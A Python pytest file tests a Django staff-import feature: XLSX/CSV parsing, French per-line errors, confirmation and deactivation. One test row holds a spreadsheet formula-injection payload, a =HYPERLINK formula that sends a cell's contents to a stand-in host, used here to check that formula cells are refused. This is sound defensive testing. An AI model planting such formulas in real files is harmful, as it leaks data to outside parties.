"""The HR import of the staff: preview, line-by-line French errors, all-or-nothing confirmation, re-import."""

import datetime
import io
import time

import pytest
import time_machine
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mlhg_app.models import PeopleImport, User
from mlhg_app.selectors import antenne_headcount
from seances.models import Groupe
from tests.seances_world import build_programme
from tests.web import flash, login

IN_THE_YEAR = datetime.datetime(2026, 10, 15, 10, 0, tzinfo=datetime.UTC)
HEADER = ["Nom", "Prénom", "Courriel", "Antenne", "Fonction", "Encadrant"]
LINES = [
    ["Roux", "Camille", "Camille.Roux@ml31.org", "Antenne Nord-Est", "Conseillère en insertion", "non"],
    ["Garcia", "Thomas", "thomas.garcia@ml31.org", "Nord-Est", "Conseiller", ""],
    ["Cazals", "Nathalie", "nathalie.cazals@ml31.org", "Siège", "Responsable de secteur", "oui"],
]


def xlsx(rows, header=HEADER) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in [header, *rows]:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows, header=HEADER, *, sep=";", encoding="utf-8-sig") -> bytes:
    return "\r\n".join(sep.join(row) for row in [header, *rows]).encode(encoding)


def upload(client, data, name="personnel.xlsx", **extra):
    return client.post(reverse("people_import"), {"fichier": SimpleUploadedFile(name, data), **extra}, follow=True)


def page(response) -> str:
    import html

    return html.unescape(response.content.decode())


@pytest.fixture
def staff(users):
    return login(users["staff"])


@pytest.mark.django_db
def test_preview_writes_nothing_then_confirm_creates_and_invites(staff, users, django_capture_on_commit_callbacks):
    before = User.objects.count()
    response = upload(staff, xlsx(LINES))
    text = page(response)
    assert "Rien n'est encore enregistré." in text
    assert "Personnes créées (3)" in text
    assert "camille.roux@ml31.org" in text
    assert User.objects.count() == before
    people_import = PeopleImport.objects.get()
    assert people_import.importe_par == users["staff"]

    with django_capture_on_commit_callbacks(execute=True):
        response = staff.post(reverse("people_import_confirm", args=[people_import.pk]), follow=True)
    text = page(response)
    assert "Import « personnel.xlsx » appliqué" in text
    assert "3 créées" in text
    camille = User.objects.get(email="camille.roux@ml31.org")
    assert (camille.role, camille.antenne.code, camille.is_manager, camille.has_usable_password()) == (
        "conseiller",
        "nord-est",
        False,
        False,
    )
    assert User.objects.get(email="nathalie.cazals@ml31.org").role == "responsable"
    assert sorted(m.to[0] for m in mail.outbox) == [
        "camille.roux@ml31.org",
        "nathalie.cazals@ml31.org",
        "thomas.garcia@ml31.org",
    ]
    assert antenne_headcount(camille.antenne) == 2
    # Confirming twice writes nothing more.
    response = staff.post(reverse("people_import_confirm", args=[people_import.pk]), follow=True)
    assert "Cet import a déjà été appliqué ou abandonné." in page(response)


@pytest.mark.django_db
def test_reimport_updates_by_email_whatever_its_case_without_duplicates(staff, users):
    upload(staff, xlsx(LINES))
    staff.post(reverse("people_import_confirm", args=[PeopleImport.objects.get().pk]))
    count = User.objects.count()
    changed = [
        ["Roux", "Camille", "CAMILLE.ROUX@ML31.ORG", "Antenne Ouest", "Conseillère", "non"],
        LINES[1],
        LINES[2],
    ]
    text = page(upload(staff, csv_bytes(changed), name="rh.csv"))
    assert "Personnes mises à jour (1)" in text
    assert "antenne : Antenne Nord-Est → Antenne Ouest" in text
    assert "Sans changement : 2 personnes." in text
    second = PeopleImport.objects.latest("pk")
    text = page(staff.post(reverse("people_import_confirm", args=[second.pk]), follow=True))
    assert "1 mise à jour" in text
    assert User.objects.count() == count
    assert User.objects.get(email="camille.roux@ml31.org").antenne.code == "ouest"


@pytest.mark.django_db
def test_wrong_columns_are_refused_with_the_missing_ones_named(staff):
    text = page(upload(staff, xlsx(LINES, header=["Nom", "Prenom", "Mail", "Site", "Poste", "Chef"])))
    assert (
        "Fichier : Colonne manquante : « Encadrant ». Colonnes trouvées : « Nom », « Prenom », « Mail », « Site », "
        "« Poste », « Chef ». La première ligne doit porter les en-têtes : Nom, Prénom, Courriel, Antenne, "
        "Fonction, Encadrant."
    ) in text
    assert "Confirmer" not in text


@pytest.mark.django_db
def test_line_errors_in_french_and_nothing_written_on_confirm(staff, users):
    rows = [
        *LINES,
        ["Roux", "Camille", "camille.roux@ML31.org", "Nord-Est", "Conseillère", "non"],
        ["Martin", "Léa", "lea.martin@ml31.org", "Antenne de Paris", "Conseillère", "non"],
        ["Bernard", "Hugo", "pas-une-adresse", "Ouest", "Astronaute", "peut-être"],
        ['=HYPERLINK("http://x.example/?d="&A1,"clic")', "Eve", "eve@ml31.org", "Ouest", "Conseillère", "non"],
    ]
    text = page(upload(staff, xlsx(rows)))
    assert "5 erreurs : l'import ne peut pas être confirmé" in text or "6 erreurs" in text
    assert (
        "Ligne 5, colonne « Courriel » : l'adresse camille.roux@ml31.org figure déjà à la ligne 2 : une personne "
        "par ligne."
    ) in text
    assert "Ligne 6, colonne « Antenne » : antenne inconnue « Antenne de Paris » : indiquez l'un des sites" in text
    assert "Ligne 7, colonne « Courriel » : « pas-une-adresse » n'est pas une adresse électronique valide." in text
    assert "Ligne 7, colonne « Fonction » : fonction inconnue « Astronaute »" in text
    assert "Ligne 7, colonne « Encadrant » : « peut-être » : indiquez « oui » ou « non »." in text
    assert "Ligne 8, colonne « Nom » : la cellule contient une formule (=HYPERLINK(" in text
    count = User.objects.count()
    response = staff.post(reverse("people_import_confirm", args=[PeopleImport.objects.get().pk]), follow=True)
    assert "corrigez le fichier et déposez-le à nouveau" in flash(response)
    assert User.objects.count() == count


@pytest.mark.django_db
def test_a_formula_cell_is_refused_not_evaluated(staff):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(["Roux", "Camille", "camille.roux@ml31.org", "Nord-Est", "Conseillère", "non"])
    sheet["A2"] = '=CONCATENATE("Ro","ux")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    text = page(upload(staff, buffer.getvalue()))
    assert 'Ligne 2, colonne « Nom » : la cellule contient une formule (=CONCATENATE("Ro","ux"))' in text
    text = page(upload(staff, csv_bytes([["@SUM(1+1)", "A", "a@ml31.org", "Ouest", "Conseiller", "non"]]), "a.csv"))
    assert "Ligne 2, colonne « Nom » : la cellule contient une formule (@SUM(1+1))" in text


@pytest.mark.django_db
@time_machine.travel(IN_THE_YEAR, tick=False)
def test_a_manager_in_a_group_is_an_error_naming_the_group(staff, users):
    build_programme(users)
    conseiller = users["conseiller"]
    row = [conseiller.last_name, conseiller.first_name, conseiller.email, "Muretain", "Chef d'antenne", "oui"]
    text = page(upload(staff, xlsx([row])))
    assert (
        f"Ligne 2, colonne « Encadrant » : {conseiller.get_full_name()} est encadrant hiérarchique : il ne peut "
        "pas être membre d'un groupe d'APP (séances hors présence hiérarchique, AMI §5.1). Membre de : "
        "Antenne Muretain (Programme 2026-2027). Retirez-le d'abord de ce groupe."
    ) in text


@pytest.mark.django_db
@time_machine.travel(IN_THE_YEAR, tick=False)
def test_missing_people_are_deactivated_only_when_asked_and_leave_their_groups(staff, users):
    build_programme(users)
    conseiller = users["conseiller"]
    text = page(upload(staff, xlsx(LINES)))
    assert "Les personnes absentes du fichier ne sont pas touchées." in text
    assert "désactivées" not in text.split("Sans changement")[0].split("Rien n'est encore")[1]

    text = page(upload(staff, xlsx(LINES), desactiver_absents="on"))
    assert "Personnes désactivées (absentes du fichier) (2)" in text  # the conseiller and the responsable
    assert "quitte : Antenne Muretain (Programme 2026-2027)" in text
    staff.post(reverse("people_import_confirm", args=[PeopleImport.objects.latest("pk").pk]))
    conseiller.refresh_from_db()
    assert not conseiller.is_active
    assert not Groupe.objects.filter(membres=conseiller).exists()
    assert User.objects.get(pk=users["staff"].pk).is_active  # never oneself
    assert User.objects.get(pk=users["prestataire"].pk).is_active  # never an outside account
    assert conseiller.history.order_by("-history_id").first().is_active is False


@pytest.mark.django_db
def test_giving_the_staff_role_is_an_error_for_staff(staff):
    text = page(upload(staff, xlsx([["Avril", "Murielle", "m.avril@ml31.org", "Siège", "Directrice", "oui"]])))
    assert "Ligne 2, colonne « Fonction » : Le rôle « Administration MLHG » ne se donne pas" in text


@pytest.mark.django_db
def test_csv_of_french_excel_latin1_and_semicolons(staff):
    rows = [["Ndiaye", "Fatou", "fatou.ndiaye@ml31.org", "Lauragais", "Conseillère en insertion", "NON"]]
    text = page(upload(staff, csv_bytes(rows, encoding="cp1252"), "export.csv"))
    assert "Personnes créées (1)" in text
    assert "Fatou Ndiaye" in text
    text = page(upload(staff, csv_bytes(rows, sep=",", encoding="utf-8-sig"), "export.csv"))
    assert "Personnes créées (1)" in text


@pytest.mark.django_db
@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "Le fichier soumis est vide."),
        (b"\n\n  \n", "Le fichier est vide."),
        (b"%PDF-1.7\n" + b"\x00\x01" * 50, "Ce fichier n'est pas un tableau lisible"),
        (b"PK\x03\x04not really a zip", "Ce fichier n'est pas un tableau lisible"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "Ce fichier est au format Excel 97-2003 (.xls)"),
        ("Nom;Prénom;Courriel;Antenne;Fonction;Encadrant\r\n".encode(), "ne contient que la ligne des en-têtes"),
        (b"just some words without any separator", "Ce fichier n'est pas un tableau lisible"),
    ],
)
def test_hostile_files_get_a_french_message(staff, data, message):
    response = upload(staff, data, "fichier.xlsx")
    assert response.status_code == 200
    assert message in page(response)


@pytest.mark.django_db
def test_5000_lines_are_refused_quickly_with_a_french_message(staff):
    rows = [[f"Nom{i}", "Prénom", f"p{i}@ml31.org", "Ouest", "Conseiller", "non"] for i in range(5000)]
    data = xlsx(rows)
    start = time.perf_counter()
    text = page(upload(staff, data))
    assert time.perf_counter() - start < 10
    assert "Le fichier compte plus de 2\u202f000 lignes de personnes : l'import en accepte 2\u202f000 au plus" in text
    assert "Confirmer" not in text


@pytest.mark.django_db
def test_a_changed_directory_between_preview_and_confirm_is_refused(staff, users):
    upload(staff, xlsx(LINES))
    people_import = PeopleImport.objects.get()
    User.objects.create_user(email="thomas.garcia@ml31.org", role="conseiller", first_name="T", last_name="G")
    response = staff.post(reverse("people_import_confirm", args=[people_import.pk]), follow=True)
    assert "L'annuaire a changé depuis l'aperçu" in flash(response)
    assert not User.objects.filter(email="camille.roux@ml31.org").exists()


@pytest.mark.django_db
def test_an_import_is_its_uploaders_only(staff, users):
    upload(staff, xlsx(LINES))
    people_import = PeopleImport.objects.get()
    other = User.objects.create_user(email="autre.staff@ml31.org", role="staff")
    assert login(other).get(reverse("people_import_preview", args=[people_import.pk])).status_code == 403
    assert login(users["responsable"]).get(reverse("people_import")).status_code == 403


@pytest.mark.django_db
def test_the_template_is_an_xlsx_without_formulas_that_imports_cleanly(staff):
    response = staff.get(reverse("people_import_template"))
    assert response["Content-Disposition"] == 'attachment; filename="modele-import-personnel.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[1]] == HEADER
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    text = page(upload(staff, response.content))
    assert "Personnes créées (2)" in text
    assert "erreur" not in text.split("Rien n'est encore enregistré.")[1].split("Personnes créées")[0]


@pytest.mark.django_db
def test_kept_hr_files_are_purged_after_the_export_retention(staff, django_capture_on_commit_callbacks):
    from django.core.files.storage import default_storage
    from django.utils import timezone

    from mlhg_app import retention

    upload(staff, xlsx(LINES))
    kept = PeopleImport.objects.get()
    name = kept.fichier.name
    now = timezone.now()
    assert retention.purge_expired(now=now + datetime.timedelta(days=6))["mlhg_app.people_imports"]["imports"] == 0
    with django_capture_on_commit_callbacks(execute=True):
        counts = retention.purge_expired(now=now + datetime.timedelta(days=8))["mlhg_app.people_imports"]
    assert counts == {"imports": 1, "fichiers": 1}
    assert not PeopleImport.objects.exists()
    assert not default_storage.exists(name)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.one_of(st.binary(max_size=3000), st.text(max_size=3000).map(lambda t: t.encode("utf-8"))))
def test_read_rows_refuses_any_bytes_in_french_or_reads_them(data):
    from mlhg_app.refusals import Refused
    from mlhg_app.services.people_import import read_rows

    try:
        columns, _ignored, rows = read_rows(data)
    except Refused as refusal:
        assert refusal.message
    else:
        assert set(columns) == {"nom", "prenom", "courriel", "antenne", "fonction", "encadrant"} and rows
